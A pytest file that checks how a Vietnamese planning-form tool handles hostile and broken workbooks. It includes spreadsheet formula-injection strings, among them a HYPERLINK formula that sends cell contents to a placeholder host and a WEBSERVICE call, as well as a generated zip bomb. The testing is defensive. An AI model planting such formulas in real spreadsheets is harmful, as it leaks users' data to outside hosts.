"""Hostile and broken input to `forms` and `aggregate`: each case names its input, the
exit code, a fragment of the Vietnamese message, and checks that nothing was written (or
that the old file is intact). Limits are sizes and counts, never timings."""

from __future__ import annotations

import errno
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest
from builders import small_plan, write_plan
from click.testing import CliRunner
from conftest import PLAN

from kehoach import safewrite
from kehoach.cli import main
from kehoach.forms import archive, evaluation
from kehoach.forms.layout import FORM, META, META_SHEET, UNITS_SHEET, cell, rows_by_id
from kehoach.forms.report import FORM_SHEET

STEM = PLAN.stem
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm")', '=WEBSERVICE("http://x.example")',
           "+1+2", "-3+4", "@SUM(A1)"]


def _run(*args: str) -> tuple[int, str]:
    """Exit code and output; anything but a clean exit (a traceback) fails the test."""
    result = CliRunner().invoke(main, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.output


def _formulas(path: Path) -> list[tuple[str, str, str]]:
    wb = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in wb for row in ws.iter_rows()
            for c in row if c.data_type == "f"]


def _hostile_plan(tmp_path: Path) -> Path:
    data = small_plan()
    indicator = data["muc_tieu_chi_tieu"]["chi_tieu"]["doan"][0]["noi_dung"][0]
    indicator["nhan"], indicator["don_vi"] = HOSTILE[0], HOSTILE[2]
    data["danh_sach_don_vi"] = "don_vi.yaml"
    units = "".join(f"  - {{id: dv-{i}, loai: xa, ten: '{name}'}}\n"
                    for i, name in enumerate(HOSTILE))
    (tmp_path / "don_vi.yaml").write_text(
        f"cap: xa\ncap_tren: ĐẢNG BỘ HUYỆN PHỤNG HIỆP\ndon_vi:\n{units}", encoding="utf-8")
    return write_plan(tmp_path / "hostile.yaml", data)


@pytest.fixture(scope="module")
def hostile_form(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    plan = _hostile_plan(folder)
    code, output = _run("forms", str(plan), "-o", str(folder / "o"), "--ky", HOSTILE[1])
    assert code == 0, output
    return folder / "o" / "hostile_bieu_chi_tieu.xlsx"


def test_user_text_in_the_form_is_text_never_a_formula(hostile_form):
    wb = openpyxl.load_workbook(hostile_form)
    ws, listing = wb[FORM_SHEET], wb[UNITS_SHEET]
    row = rows_by_id(ws)["ct-bhyt"]
    for target, expected in ((cell(ws, row, "chi_tieu"), HOSTILE[0]),
                             (cell(ws, row, "don_vi"), HOSTILE[2]),
                             (ws[FORM.period], f"{HOSTILE[1]} năm 2024"),
                             *((listing[f"A{i}"], name) for i, name in enumerate(HOSTILE, 1))):
        assert (target.value, target.data_type) == (expected, "s"), target.coordinate
    # The only formulas are kehoach's own: the rate, the verdict, the id behind the name.
    own = {(FORM_SHEET, cell(ws, row, "ty_le").coordinate),
           (FORM_SHEET, cell(ws, row, "danh_gia").coordinate), (META_SHEET, META.unit_id)}
    assert {(sheet, ref) for sheet, ref, _ in _formulas(hostile_form)} == own


def _fill(source: Path, target: Path, unit: str | None, values: dict[str, object]) -> Path:
    shutil.copy(source, target)
    wb = openpyxl.load_workbook(target)
    ws = wb[FORM_SHEET]
    if unit is not None:
        ws[FORM.unit_name] = unit
        ws[FORM.unit_name].data_type = "s"
    rows = rows_by_id(ws)
    for ident, value in values.items():
        cell(ws, rows[ident], "ket_qua").value = value
    wb.save(target)
    return target


@pytest.fixture(scope="module")
def blank(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("blank")
    code, output = _run("forms", str(PLAN), "-o", str(out))
    assert code == 0, output
    return out / f"{STEM}_bieu_chi_tieu.xlsx"


def test_names_a_returned_workbook_gives_itself_and_file_names_stay_text(
        tmp_path, monkeypatch, hostile_form):
    """No registry: the unit names come from the returned workbook's own list."""
    plan = tmp_path / "hostile.yaml"
    plan.write_text((hostile_form.parent.parent / "hostile.yaml").read_text(encoding="utf-8")
                    .replace("danh_sach_don_vi: don_vi.yaml\n", ""), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    named = tmp_path / '=HYPERLINK("a","Bấm").xlsx'
    crafted = _fill(hostile_form, named, HOSTILE[4], {"ct-bhyt": 96})
    wb = openpyxl.load_workbook(crafted)
    wb[UNITS_SHEET]["B5"] = HOSTILE[1]  # the id behind the name, itself a formula
    wb.save(crafted)
    broken = Path(f"{HOSTILE[3]}.xlsx")
    broken.write_text("không phải Excel", encoding="utf-8")
    code, output = _run("aggregate", str(plan), "-o", "o", "--", crafted.name, str(broken))
    assert code == 1, output
    summary = Path("o") / "hostile_tong_hop.xlsx"
    wb = openpyxl.load_workbook(summary)
    assert (wb["Tổng hợp"]["E1"].value, wb["Tổng hợp"]["E1"].data_type) == (HOSTILE[1], "s")
    checks = [c for r in wb["Kiểm tra"].iter_rows(min_row=2) for c in r]
    assert any(c.value == str(broken) and c.data_type == "s" for c in checks)
    assert _formulas(summary) == []


def test_libreoffice_leaves_user_text_as_text(soffice, hostile_form, tmp_path):
    out = tmp_path / "tinh"
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(out), str(hostile_form)],
                   capture_output=True, check=False, timeout=180)
    wb = openpyxl.load_workbook(out / hostile_form.name, data_only=True)
    ws = wb[FORM_SHEET]
    row = rows_by_id(ws)["ct-bhyt"]
    assert cell(ws, row, "chi_tieu").value == HOSTILE[0]
    assert cell(ws, row, "don_vi").value == HOSTILE[2]
    assert ws[FORM.period].value == f"{HOSTILE[1]} năm 2024"
    assert [wb[UNITS_SHEET][f"A{i}"].value for i in range(1, 6)] == HOSTILE


@pytest.mark.parametrize("typed", ["Xã Hòa An", "  Hòa An ", unicodedata.normalize("NFD", "Hòa An"),
                                   "hoa-an", "HÒA  AN", "xã hòa an"])
def test_the_unit_is_the_name_the_clerk_sees(blank, tmp_path, typed):
    filled = _fill(blank, tmp_path / "a.xlsx", typed, {"ct-bhyt": 96})
    code, output = _run("aggregate", str(PLAN), str(filled), "-o", str(tmp_path / "o"))
    assert code == 0, output
    header = [c.value for c in openpyxl.load_workbook(
        tmp_path / "o" / f"{STEM}_tong_hop.xlsx")["Tổng hợp"][1]]
    assert header[4] == "Hòa An"


@pytest.mark.parametrize(("typed", "fragment"), [
    ("Hòa Ann", "đơn vị báo cáo 'Hòa Ann' không có trong danh sách"),
    ("Phường Hòa An", "đơn vị báo cáo 'Phường Hòa An' không có"),  # not its kind
    (HOSTILE[0], f"đơn vị báo cáo '{HOSTILE[0]}' không có"),
])
def test_a_name_that_matches_nothing_is_shown_as_typed(blank, tmp_path, typed, fragment):
    filled = _fill(blank, tmp_path / "a.xlsx", typed, {"ct-bhyt": 96})
    code, output = _run("aggregate", str(PLAN), str(filled), "-o", str(tmp_path / "o"))
    assert code == 2 and fragment in output, output
    assert not (tmp_path / "o").exists()


def test_a_reused_neighbours_form_is_refused_naming_both_cells(tmp_path):
    derived = tmp_path / "xa"
    assert _run("derive", str(PLAN), "--unit", "hoa-an", "-o", str(derived))[0] == 0
    assert _run("forms", str(derived / "hoa-an.yaml"), "-o", str(derived))[0] == 0
    reused = _fill(derived / "hoa-an_bieu_chi_tieu.xlsx", tmp_path / "tan_long.xlsx",
                   "Tân Long", {"ct-bhyt": 96})
    code, output = _run("aggregate", str(PLAN), str(reused), "-o", str(tmp_path / "o"))
    assert code == 2, output
    assert (f"ô {FORM_SHEET}!{FORM.unit_name} ghi đơn vị 'Tân Long' (mã tan-long) nhưng ô "
            f"{META_SHEET}!{META.unit_id} ghi mã 'hoa-an'") in output
    assert not (tmp_path / "o").exists()


def _patch_member(path: Path, member: str, change) -> Path:
    """`path` with one zip member rewritten by `change(bytes) -> bytes`."""
    with zipfile.ZipFile(path) as source:
        parts = {i.filename: source.read(i) for i in source.infolist()}
    parts[member] = change(parts[member])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


@pytest.mark.parametrize(("number", "fragment"), [
    ("1e999", "'inf' không phải là một số hữu hạn"),
    ("1" + "0" * 400, "không phải là một số hữu hạn"),
    ("-3", "-3 ngoài khoảng cho phép (từ 0 đến 100)"),
    ("100.5", "100,5 ngoài khoảng cho phép (từ 0 đến 100)"),
])
def test_numbers_must_be_finite_and_in_range(blank, tmp_path, number, fragment):
    filled = _fill(blank, tmp_path / "a.xlsx", "Hòa An", {"ct-bhyt": 12.25})
    _patch_member(filled, "xl/worksheets/sheet1.xml",
                  lambda xml: xml.replace(b"<v>12.25</v>", f"<v>{number}</v>".encode()))
    code, output = _run("aggregate", str(PLAN), str(filled), "-o", str(tmp_path / "o"))
    assert code == 1 and f"{FORM_SHEET}!E" in output and fragment in output, output
    numbers = openpyxl.load_workbook(tmp_path / "o" / f"{STEM}_tong_hop.xlsx")["Tổng hợp"]
    bhyt = next(r for r in numbers.iter_rows(min_row=2) if r[0].value == "ct-bhyt")
    assert bhyt[4].value is None  # the bad number is left out, never summed


def test_an_infinite_target_is_never_exceeded(plan):
    indicator = next(iter(plan.muc_tieu_chi_tieu.chi_tieu.indicators()))
    code = evaluation.rule_code(indicator)
    assert evaluation.evaluate(code, float("inf"), 1e300, 0.0) is None
    assert evaluation.evaluate(code, 95, float("nan"), 0.0) is None
    assert evaluation.evaluate(code, 95, 96, 0.0) in evaluation.labels().values()


def test_an_infinite_target_in_a_plan_is_a_plan_error(tmp_path):
    data = small_plan()
    data["muc_tieu_chi_tieu"]["chi_tieu"]["doan"][0]["noi_dung"][0]["gia_tri"] = float("inf")
    plan = write_plan(tmp_path / "p.yaml", data)
    code, output = _run("forms", str(plan), "-o", str(tmp_path / "o"))
    assert code == 2 and "gia_tri" in output and "vô hạn" in output


def _bomb(path: Path) -> Path:
    size = archive.MAX_MEMBER_BYTES + 1
    with (zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb,
          bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member):
        chunk = b"\0" * (1 << 20)
        for _ in range(size // len(chunk) + 1):
            member.write(chunk)
    return path


def _many(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as many:
        for i in range(archive.MAX_MEMBERS + 1):
            many.writestr(f"x{i}", b"")
    return path


@pytest.mark.parametrize(("case", "fragment"), [
    ("not-a-zip", "không phải tệp Excel (.xlsx) đọc được: không phải tệp nén zip"),
    ("zip-bomb", "phần xl/worksheets/sheet1.xml giải nén ra 51 MB, quá giới hạn 50 MB"),
    ("too-many-members", "tệp nén có 1001 phần, quá giới hạn 1000 phần"),
    ("malformed-xml", "phần xl/worksheets/sheet1.xml: XML hỏng ở dòng"),
    ("undecodable-name", "h\\xf2a_an.xlsx: không phải tệp Excel"),
])
def test_a_broken_workbook_is_named_and_nothing_is_written(blank, tmp_path, case, fragment):
    path = tmp_path / "xau.xlsx"
    if case in ("not-a-zip", "undecodable-name"):
        if case == "undecodable-name":  # a name made on Windows: bytes that are not UTF-8
            path = tmp_path / "h\udcf2a_an.xlsx"
        path.write_text("không phải Excel", encoding="utf-8")
    elif case == "zip-bomb":
        _bomb(path)
    elif case == "too-many-members":
        _many(path)
    else:
        _fill(blank, path, "Hòa An", {"ct-bhyt": 96})
        _patch_member(path, "xl/worksheets/sheet1.xml", lambda xml: xml[: len(xml) // 2])
    code, output = _run("aggregate", str(PLAN), str(path), "-o", str(tmp_path / "o"))
    assert code == 2, output
    assert fragment in output and "không có biểu nào dùng được" in output
    assert not (tmp_path / "o").exists()


def test_a_good_file_with_an_undecodable_name_is_summarised(blank, tmp_path):
    good = _fill(blank, tmp_path / "h\udcf2a_an.xlsx", "Hòa An", {"ct-bhyt": 96})
    code, output = _run("aggregate", str(PLAN), str(good), "-o", str(tmp_path / "o"))
    assert code == 0, output
    assert (tmp_path / "o" / f"{STEM}_tong_hop.xlsx").is_file()


def test_a_report_year_out_of_range_writes_nothing(tmp_path):
    code, output = _run("forms", str(PLAN), "-o", str(tmp_path / "o"), "--nam", "99999")
    assert code == 2 and "nằm ngoài khoảng 1900<=x<=2100" in output
    assert not (tmp_path / "o").exists()


def _old_outputs(folder: Path) -> dict[Path, bytes]:
    folder.mkdir(parents=True, exist_ok=True)
    old = {folder / f"{STEM}{s}": f"cũ {s}".encode() for s in (
        "_de_cuong_bao_cao.docx", "_bieu_chi_tieu.docx", "_bieu_chi_tieu.xlsx")}
    for path, data in old.items():
        path.write_bytes(data)
    return old


def test_an_output_folder_that_is_a_file(tmp_path):
    folder = tmp_path / "o"
    folder.write_text("giữ nguyên", encoding="utf-8")
    for args in (["forms", str(PLAN)], ["aggregate", str(PLAN), str(PLAN)]):
        code, output = _run(*args, "-o", str(folder))
        if args[0] == "forms":
            assert code == 2 and "đã có một tệp trùng tên với thư mục cần tạo" in output
        else:
            assert code == 2, output  # the plan is no workbook: nothing usable
    code, output = _run("forms", str(PLAN), "-o", str(folder / "ben-trong"))
    assert code == 2 and "một phần của đường dẫn là tệp" in output
    assert folder.read_text(encoding="utf-8") == "giữ nguyên"


def test_a_directory_where_a_file_goes_leaves_the_others_intact(tmp_path):
    old = _old_outputs(tmp_path / "o")
    (tmp_path / "o" / f"{STEM}_bieu_chi_tieu.xlsx").unlink()
    (tmp_path / "o" / f"{STEM}_bieu_chi_tieu.xlsx").mkdir()
    code, output = _run("forms", str(PLAN), "-o", str(tmp_path / "o"))
    assert code == 2 and "đây là một thư mục, không phải tệp" in output, output
    for path, data in old.items():
        assert path.is_dir() or path.read_bytes() == data
    assert not list((tmp_path / "o").glob(".*.tmp"))


@pytest.mark.parametrize(("failure", "fragment"), [
    (errno.EACCES, "không có quyền đọc hoặc ghi"), (errno.EROFS, "ổ đĩa chỉ cho đọc"),
    (errno.ENOSPC, "hết chỗ trống trên đĩa")])
def test_a_read_only_or_full_folder_keeps_the_old_files(tmp_path, monkeypatch, failure, fragment):
    """Root writes anywhere, so the refusal comes from the file system as a stand-in: the
    second file of the batch cannot be written."""
    old = _old_outputs(tmp_path / "o")
    real, calls = safewrite._temporary, []

    def temporary(target: Path) -> Path:
        calls.append(target)
        if len(calls) == 2:
            raise OSError(failure, "refused", str(target))
        return real(target)

    monkeypatch.setattr(safewrite, "_temporary", temporary)
    code, output = _run("forms", str(PLAN), "-o", str(tmp_path / "o"))
    assert code == 2 and fragment in output and "chưa ghi tệp nào" in output, output
    assert {p: p.read_bytes() for p in old} == old
    assert not list((tmp_path / "o").glob(".*.tmp"))
